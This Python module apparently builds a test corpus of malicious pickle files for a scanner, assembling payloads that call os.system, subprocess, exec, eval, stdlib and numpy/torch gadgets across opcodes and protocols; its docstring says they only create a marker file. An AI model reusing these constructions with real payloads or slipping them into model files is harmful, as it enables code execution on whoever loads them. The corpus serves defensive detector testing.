"""Hand-assembled malicious pickles that call something dangerous directly: OS commands,
code runners, stdlib and third-party gadgets, in every opcode form and protocol.

Every payload, if a loader ever ran it, only creates ``stackward-payload-marker`` in the
current directory (or fails harmlessly).
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from functools import partial

from tests.artifacts.corpus.assemble import (
    MARKER,
    PYTHON_PAYLOAD,
    SHELL_PAYLOAD,
    Pickle,
    call,
    call_with_argv,
    getattr_call,
    os_system,
)
from tests.artifacts.corpus.recipe import Recipe, bytes_writer, malicious


def _instance(module: str, name: str) -> Callable[[Pickle], Pickle]:
    return lambda asm: asm.global_(module, name).empty_tuple().reduce()


def _framed(protocol: int, body: bytes) -> bytes:
    """A protocol 4/5 pickle with its body in one FRAME, as ``pickle.dumps`` writes it."""
    return bytes([0x80, protocol, 0x95]) + struct.pack("<Q", len(body)) + body


def _stack_global_system(protocol: int) -> bytes:
    asm = Pickle(protocol, header=False)
    asm.stack_global("os", "system").memoize().string(SHELL_PAYLOAD).memoize()
    return _framed(protocol, bytes(asm.tuple1().memoize().reduce().memoize().stop()))


def _os_commands() -> list[Recipe]:
    cls = "os-command"
    return [
        malicious(
            "os_system.pkl", cls, "pickle", "os.system via GLOBAL+REDUCE", bytes_writer(os_system)
        ),
        malicious(
            "posix_system.pkl",
            cls,
            "pickle",
            "posix.system (the module os re-exports)",
            bytes_writer(lambda: call("posix", "system", SHELL_PAYLOAD)),
        ),
        malicious(
            "nt_system.pkl",
            cls,
            "pickle",
            "nt.system, the Windows twin of posix",
            bytes_writer(lambda: call("nt", "system", SHELL_PAYLOAD)),
        ),
        malicious(
            "os_popen.pkl",
            cls,
            "pickle",
            "os.popen runs a shell command",
            bytes_writer(lambda: call("os", "popen", SHELL_PAYLOAD)),
        ),
        malicious(
            "subprocess_popen.pkl",
            cls,
            "pickle",
            "subprocess.Popen with an argv list",
            bytes_writer(lambda: call_with_argv("subprocess", "Popen")),
        ),
        malicious(
            "subprocess_check_output.pkl",
            cls,
            "pickle",
            "subprocess.check_output argv",
            bytes_writer(lambda: call_with_argv("subprocess", "check_output")),
        ),
        malicious(
            "subprocess_getoutput.pkl",
            cls,
            "pickle",
            "subprocess.getoutput shell string",
            bytes_writer(lambda: call("subprocess", "getoutput", SHELL_PAYLOAD)),
        ),
    ]


def _compile_then_exec() -> bytes:
    asm = Pickle(2).global_("builtins", "exec").global_("builtins", "compile")
    asm.mark().string(PYTHON_PAYLOAD).string("<model>").string("exec").tuple_().reduce()
    return bytes(asm.tuple1().reduce().stop())


def _dunder_import_system() -> bytes:
    def os_module(asm: Pickle) -> Pickle:
        return asm.global_("builtins", "__import__").string("os").tuple1().reduce()

    return getattr_call(os_module, "system", SHELL_PAYLOAD)


def _builtins_code() -> list[Recipe]:
    cls = "builtins-code-exec"
    return [
        malicious(
            "exec.pkl",
            cls,
            "pickle",
            "builtins.exec of Python source",
            bytes_writer(lambda: call("builtins", "exec", PYTHON_PAYLOAD)),
        ),
        malicious(
            "eval.pkl",
            cls,
            "pickle",
            "builtins.eval of Python source",
            bytes_writer(lambda: call("builtins", "eval", PYTHON_PAYLOAD)),
        ),
        malicious(
            "compile_exec.pkl",
            cls,
            "pickle",
            "builtins.compile fed to builtins.exec",
            bytes_writer(_compile_then_exec),
        ),
        malicious(
            "dunder_import.pkl",
            cls,
            "pickle",
            "getattr(__import__('os'), 'system')",
            bytes_writer(_dunder_import_system),
        ),
    ]


def _protocols() -> list[Recipe]:
    cls = "pickle-protocols"
    recipes = [
        malicious(
            f"os_system_p{p}.pkl",
            cls,
            "pickle",
            f"os.system in protocol {p}",
            bytes_writer(partial(os_system, p)),
        )
        for p in (0, 1, 2, 3)
    ]
    recipes += [
        malicious(
            f"os_system_p{p}.pkl",
            cls,
            "pickle",
            f"os.system in protocol {p}, framed, STACK_GLOBAL",
            bytes_writer(partial(_stack_global_system, p)),
        )
        for p in (4, 5)
    ]
    return recipes


def _inst() -> bytes:
    return bytes(Pickle(0).mark().string(SHELL_PAYLOAD).inst("os", "system").stop())


def _obj() -> bytes:
    return bytes(Pickle(1).mark().global_("os", "system").string(SHELL_PAYLOAD).obj().stop())


def _setstate_build(extended: bool) -> bytes:
    """A harmless class instance whose ``__setstate__`` is replaced by ``os.system``; the
    second BUILD then calls it with the command as the state."""
    asm = Pickle(4 if extended else 2).global_("argparse", "Namespace")
    if extended:
        asm.empty_tuple().empty_dict().newobj_ex()
    else:
        asm.empty_tuple().newobj()
    asm.none().empty_dict().string("__setstate__").global_("os", "system").setitem()
    asm.tuple2().build().string(SHELL_PAYLOAD).build()
    return bytes(asm.stop())


def _opcode_variants() -> list[Recipe]:
    cls = "opcode-variants"
    return [
        malicious(
            "inst.pkl",
            cls,
            "pickle",
            "INST opcode (protocol 0) calling os.system",
            bytes_writer(_inst),
        ),
        malicious(
            "obj.pkl",
            cls,
            "pickle",
            "OBJ opcode (protocol 1) calling os.system",
            bytes_writer(_obj),
        ),
        malicious(
            "stack_global.pkl",
            cls,
            "pickle",
            "STACK_GLOBAL + REDUCE, unframed",
            bytes_writer(
                lambda: call("os", "system", SHELL_PAYLOAD, protocol=4, stack_global=True)
            ),
        ),
        malicious(
            "newobj_build_setstate.pkl",
            cls,
            "pickle",
            "NEWOBJ then BUILD that plants os.system as __setstate__",
            bytes_writer(lambda: _setstate_build(False)),
        ),
        malicious(
            "newobj_ex_build_setstate.pkl",
            cls,
            "pickle",
            "NEWOBJ_EX then BUILD that plants os.system as __setstate__",
            bytes_writer(lambda: _setstate_build(True)),
        ),
    ]


def _run_code() -> bytes:
    asm = Pickle(2).global_("runpy", "_run_code").string(PYTHON_PAYLOAD).empty_dict()
    return bytes(asm.tuple2().reduce().stop())


def _timeit() -> bytes:
    asm = Pickle(2).global_("timeit", "timeit").mark().string(PYTHON_PAYLOAD).string("pass")
    asm.global_("time", "perf_counter").int_(1).tuple_().reduce()
    return bytes(asm.stop())


def _stdlib_exec() -> list[Recipe]:
    cls = "stdlib-exec-gadget"
    return [
        malicious(
            "runpy_run_code.pkl",
            cls,
            "pickle",
            "runpy._run_code execs a string",
            bytes_writer(_run_code),
        ),
        malicious(
            "timeit.pkl",
            cls,
            "pickle",
            "timeit.timeit compiles and runs its stmt",
            bytes_writer(_timeit),
        ),
        malicious(
            "profile_run.pkl",
            cls,
            "pickle",
            "profile.run execs its argument",
            bytes_writer(lambda: call("profile", "run", PYTHON_PAYLOAD)),
        ),
        malicious(
            "cprofile_run.pkl",
            cls,
            "pickle",
            "cProfile.run execs its argument",
            bytes_writer(lambda: call("cProfile", "run", PYTHON_PAYLOAD)),
        ),
        malicious(
            "pdb_run.pkl",
            cls,
            "pickle",
            "pdb.run execs its argument",
            bytes_writer(lambda: call("pdb", "run", PYTHON_PAYLOAD)),
        ),
        malicious(
            "trace_run.pkl",
            cls,
            "pickle",
            "getattr(trace.Trace(), 'run')(source)",
            bytes_writer(lambda: getattr_call(_instance("trace", "Trace"), "run", PYTHON_PAYLOAD)),
        ),
        malicious(
            "code_runsource.pkl",
            cls,
            "pickle",
            "getattr(code.InteractiveInterpreter(), 'runsource')(source)",
            bytes_writer(
                lambda: getattr_call(
                    _instance("code", "InteractiveInterpreter"), "runsource", PYTHON_PAYLOAD
                )
            ),
        ),
    ]


def _ctypes_system() -> bytes:
    def libc(asm: Pickle) -> Pickle:
        return asm.global_("ctypes", "CDLL").none().tuple1().reduce()

    asm = Pickle(3).global_("builtins", "getattr")
    libc(asm).string("system").tuple2().reduce().bytes_(SHELL_PAYLOAD.encode()).tuple1()
    return bytes(asm.reduce().stop())


def _stdlib_os() -> list[Recipe]:
    cls = "stdlib-os-gadget"
    return [
        malicious(
            "pydoc_pipepager.pkl",
            cls,
            "pickle",
            "pydoc.pipepager runs its cmd in a shell",
            bytes_writer(lambda: call("pydoc", "pipepager", "", SHELL_PAYLOAD)),
        ),
        malicious(
            "webbrowser_open.pkl",
            cls,
            "pickle",
            "webbrowser.open launches a program",
            bytes_writer(lambda: call("webbrowser", "open", "https://example.invalid/")),
        ),
        malicious(
            "posixsubprocess_fork_exec.pkl",
            cls,
            "pickle",
            "_posixsubprocess.fork_exec, the primitive under subprocess",
            bytes_writer(lambda: call_with_argv("_posixsubprocess", "fork_exec")),
        ),
        malicious(
            "asyncio_subprocess.pkl",
            cls,
            "pickle",
            "asyncio.subprocess.create_subprocess_shell",
            bytes_writer(
                lambda: call("asyncio.subprocess", "create_subprocess_shell", SHELL_PAYLOAD)
            ),
        ),
        malicious(
            "ctypes_libc_system.pkl",
            cls,
            "pickle",
            "getattr(ctypes.CDLL(None), 'system')",
            bytes_writer(_ctypes_system),
        ),
        malicious(
            "pty_spawn.pkl",
            cls,
            "pickle",
            "pty.spawn runs a program",
            bytes_writer(lambda: call_with_argv("pty", "spawn")),
        ),
    ]


def _file_writes() -> list[Recipe]:
    cls = "file-write-gadget"
    return [
        malicious(
            "builtins_open.pkl",
            cls,
            "pickle",
            "builtins.open(path, 'w') creates a file",
            bytes_writer(lambda: call("builtins", "open", MARKER, "w")),
        ),
        malicious(
            "io_open.pkl",
            cls,
            "pickle",
            "io.open(path, 'w') creates a file",
            bytes_writer(lambda: call("io", "open", MARKER, "w")),
        ),
        malicious(
            "shutil_copyfile.pkl",
            cls,
            "pickle",
            "shutil.copyfile writes a file",
            bytes_writer(lambda: call("shutil", "copyfile", "/dev/null", MARKER)),
        ),
        malicious(
            "pathlib_write_text.pkl",
            cls,
            "pickle",
            "getattr(pathlib.Path(p), 'write_text')('x')",
            bytes_writer(
                lambda: getattr_call(
                    lambda asm: asm.global_("pathlib", "Path").string(MARKER).tuple1().reduce(),
                    "write_text",
                    "x",
                )
            ),
        ),
    ]


def _module_then_system(module_call: Callable[[Pickle], Pickle]) -> bytes:
    return getattr_call(module_call, "system", SHELL_PAYLOAD)


def _sys_modules_os(asm: Pickle) -> Pickle:
    return (
        asm.global_("_operator", "getitem").global_("sys", "modules").string("os").tuple2().reduce()
    )


def _imports() -> list[Recipe]:
    cls = "import-gadget"
    return [
        malicious(
            "importlib_import_module.pkl",
            cls,
            "pickle",
            "importlib.import_module('os') then .system",
            bytes_writer(
                lambda: _module_then_system(
                    lambda asm: (
                        asm.global_("importlib", "import_module").string("os").tuple1().reduce()
                    )
                )
            ),
        ),
        malicious(
            "importlib_dunder_import.pkl",
            cls,
            "pickle",
            "importlib.__import__('os') then .system",
            bytes_writer(
                lambda: _module_then_system(
                    lambda asm: (
                        asm.global_("importlib", "__import__").string("os").tuple1().reduce()
                    )
                )
            ),
        ),
        malicious(
            "pkgutil_resolve_name.pkl",
            cls,
            "pickle",
            "pkgutil.resolve_name('os:system') resolves any callable",
            bytes_writer(
                lambda: bytes(
                    Pickle(2)
                    .global_("pkgutil", "resolve_name")
                    .string("os:system")
                    .tuple1()
                    .reduce()
                    .string(SHELL_PAYLOAD)
                    .tuple1()
                    .reduce()
                    .stop()
                )
            ),
        ),
        malicious(
            "sys_modules_getitem.pkl",
            cls,
            "pickle",
            "sys.modules['os'] via _operator.getitem, then .system",
            bytes_writer(lambda: _module_then_system(_sys_modules_os)),
        ),
    ]


def _third_party() -> list[Recipe]:
    cls = "third-party-gadget"
    return [
        malicious(
            "numpy_runstring.pkl",
            cls,
            "pickle",
            "numpy.testing._private.utils.runstring execs source",
            bytes_writer(
                lambda: bytes(
                    Pickle(2)
                    .global_("numpy.testing._private.utils", "runstring")
                    .string(PYTHON_PAYLOAD)
                    .empty_dict()
                    .tuple2()
                    .reduce()
                    .stop()
                )
            ),
        ),
        malicious(
            "numpy_f2py_myeval.pkl",
            cls,
            "pickle",
            "numpy.f2py.crackfortran.myeval evals source",
            bytes_writer(lambda: call("numpy.f2py.crackfortran", "myeval", PYTHON_PAYLOAD)),
        ),
        malicious(
            "torch_hub_load.pkl",
            cls,
            "pickle",
            "torch.hub.load fetches and runs hubconf",
            bytes_writer(lambda: call("torch.hub", "load", "stackward-example/none", "model")),
        ),
        malicious(
            "pip_main.pkl",
            cls,
            "pickle",
            "pip.main installs (and runs) a package",
            bytes_writer(
                lambda: bytes(
                    Pickle(2)
                    .global_("pip", "main")
                    .empty_list()
                    .mark()
                    .string("install")
                    .string("--no-index")
                    .string(MARKER)
                    .op(b"e")
                    .tuple1()
                    .reduce()
                    .stop()
                )
            ),
        ),
        malicious(
            "torch_bottleneck.pkl",
            cls,
            "pickle",
            "torch.utils.bottleneck.__main__.run_cprofile execs source",
            bytes_writer(
                lambda: bytes(
                    Pickle(2)
                    .global_("torch.utils.bottleneck.__main__", "run_cprofile")
                    .string(PYTHON_PAYLOAD)
                    .empty_dict()
                    .tuple2()
                    .reduce()
                    .stop()
                )
            ),
        ),
        malicious(
            "torch_jit_execwrapper.pkl",
            cls,
            "pickle",
            "torch.jit.unsupported_tensor_ops.execWrapper execs source",
            bytes_writer(
                lambda: bytes(
                    Pickle(2)
                    .global_("torch.jit.unsupported_tensor_ops", "execWrapper")
                    .mark()
                    .string(PYTHON_PAYLOAD)
                    .empty_dict()
                    .empty_dict()
                    .tuple_()
                    .reduce()
                    .stop()
                )
            ),
        ),
    ]


def direct_call_recipes() -> list[Recipe]:
    return [
        *_os_commands(),
        *_builtins_code(),
        *_protocols(),
        *_opcode_variants(),
        *_stdlib_exec(),
        *_stdlib_os(),
        *_file_writes(),
        *_imports(),
        *_third_party(),
    ]
